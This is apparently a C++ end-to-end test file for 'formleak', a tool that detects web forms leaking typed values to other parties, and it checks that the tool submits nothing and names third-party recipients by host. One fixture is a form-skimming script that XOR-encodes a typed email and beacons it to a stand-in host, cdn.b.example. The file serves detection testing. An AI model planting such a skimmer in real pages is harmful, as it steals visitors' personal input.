// What a visit's own values lead a page to: nothing is submitted before the first click either, another
// target of the run is another party, and the site's own addresses are nobody else's, however long.
#include <doctest/doctest.h>

#include "tests/e2e/attacks/secrets_world.h"

using namespace formleak;
using namespace formleak::test;

namespace {

Outcome verify(const Site& own, const Site& other, std::vector<std::string> targets) {
    std::vector<std::string> arguments = {"verify", "--format", "json"};
    for (const std::string& mapping :
         {at("a.example", "80", own), at("www.b.example", "80", other), at("cdn.b.example", "80", other)}) {
        arguments.push_back("--connect-to");
        arguments.push_back(mapping);
    }
    arguments.insert(arguments.end(), targets.begin(), targets.end());
    return run_formleak(arguments);
}

const std::string kField = "<label>E-post <input type=email name=epost></label>";

}  // namespace

TEST_CASE("submissions: a tick, a choice or leaving a field submits nothing") {
    Site own, other;
    const char* const kPages[] = {
        "<form action='/tack' method=post>%<label><input type=checkbox name=ja "
        "onchange='this.form.submit()'> Avregistrera mig</label></form>",
        "<form action='/tack' method=post>%<select name=lan onchange='this.form.submit()'><option value=''>"
        "Välj<option value=1>Skåne</select></form>",
        "<form>%</form><script>document.querySelector('input').onblur = e => { if (e.target.value) "
        "fetch('/spara', {method: "
        "'POST', "
        "body: 'n=' + e.target.value.length}); if (e.target.value) navigator.sendBeacon('/spara', 'x'); "
        "}</script>",
        "<form action='/tack'>%</form><script>document.querySelector('input').onblur = e => { if "
        "(e.target.value) location = "
        "'/tack?n=' + e.target.value.length; }</script>"};
    std::vector<std::string> targets;
    for (std::size_t i = 0; i < std::size(kPages); ++i) {
        std::string page = kPages[i];
        page.replace(page.find('%'), 1, kField);
        own.page("/" + std::to_string(i), page_of(page));
        targets.push_back("http://a.example/" + std::to_string(i));
    }
    const Outcome outcome = verify(own, other, targets);
    CAPTURE(outcome.err);
    CHECK(own.requests().size() >= 2 * targets.size());
    for (const ServedRequest& request : own.requests()) {
        CAPTURE(request.target);
        CHECK(request.method == "GET");
        CHECK_FALSE(request.target.starts_with("/tack"));
    }
}

TEST_CASE("submissions: another target of the same run is another party") {
    Site own, other;
    own.page("/", page_of("<form>" + kField + "</form><script src='http://cdn.b.example/w.js'></script>"));
    other.page("/", page_of("<p>Ett annat företag</p>"));
    other.answer("/w.js",
                 {200,
                  "text/javascript",
                  {},
                  "document.querySelector('input').onblur = e => { if (!e.target.value) return; const x = "
                  "[...e.target.value].map(c => "
                  "c.charCodeAt(0) ^ 90).join('x'); new Image().src = 'http://cdn.b.example/i/' + x; "
                  "fetch('http://cdn.b.example/p', {method: 'POST', body: x, mode: 'no-cors'}); }"});
    const Outcome outcome = verify(own, other, {"http://a.example/", "http://www.b.example/"});
    CAPTURE(outcome.err);
    CHECK(other.hits("/w.js") > 0);
    for (const ServedRequest& request : other.requests()) {
        CAPTURE(request.target);
        CHECK(request.method == "GET");
        CHECK_FALSE(request.target.starts_with("/i/"));
    }
    CHECK(outcome.out.find("cdn.b.example") != std::string::npos);
}

TEST_CASE("submissions: a long address of the site's own is the site's, and another's is named by its host") {
    Site own, other;
    const std::string filler = "<input type=hidden name=big value='" + std::string(9'000, 'x') + "'>";
    own.page("/own", page_of("<form>" + kField + filler + "<button>Sök</button></form>"));
    own.page("/other", page_of("<form action='http://cdn.b.example/s'>" + kField + filler +
                               "<button>Sök</button></form>"));
    const Outcome outcome = verify(own, other, {"http://a.example/own", "http://a.example/other"});
    const auto report = parse_json(outcome.out);
    REQUIRE_MESSAGE(report.ok(), outcome.err);
    std::size_t to_other = 0;
    for (const Json& leak : (*report)["leaks"].items()) {
        CAPTURE(leak["recipient"].as_text());
        CHECK(leak["page"].as_text() == "http://a.example/other");
        CHECK(leak["recipient"].as_text() == "b.example");
        ++to_other;
    }
    CHECK(to_other > 0);
}
